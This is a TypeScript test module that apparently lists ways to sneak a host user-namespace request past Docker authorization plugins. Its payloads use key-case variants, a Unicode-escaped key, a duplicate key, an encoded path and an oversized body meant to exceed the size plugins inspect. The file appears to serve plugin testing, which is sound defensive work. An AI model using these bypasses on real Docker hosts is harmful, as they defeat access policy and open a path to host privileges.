import { nothing, type Attempt } from './attempt.ts'

/** In bytes: more than Docker shows its plugins (moby pkg/authorization/authz.go, maxBodySize), until 29.3. */
const hiddenSize = 1_100_000

const body = (hostConfig: string) => `{"Image":"${nothing}",${hostConfig}}`
const plain = body('"HostConfig":{"UsernsMode":"host"}')
const at = (target: string, text = plain) => ({ method: 'POST' as const, target, body: text })

/** The host's user namespace, asked for in ways that Docker reads and that a plugin may not. */
export const spellings: readonly Attempt[] = [
  {
    id: 'canonical',
    title: 'other spellings of a setting',
    requests: [
      '"HostConfig":{"usernsmode":"host"}',
      '"hostconfig":{"UsernsMode":"host"}',
      '"Ho\\u017ftConfig":{"UsernsMode":"host"}',
      '"HostConfig":{"UsernsMode":"host"},"HostConfig":{"Memory":0}',
    ].map((hostConfig) => at('/containers/create', body(hostConfig))),
  },
  {
    id: 'canonical',
    title: 'other spellings of the address',
    requests: ['/containers/%63reate', 'http://docker/containers/create'].map((target) =>
      at(target),
    ),
  },
  {
    id: 'canonical',
    title: 'bodies that Docker does not show',
    requests: [
      at('/containers/create', plain.replace('{', `{"Domainname":"${'x'.repeat(hiddenSize)}",`)),
    ],
  },
]
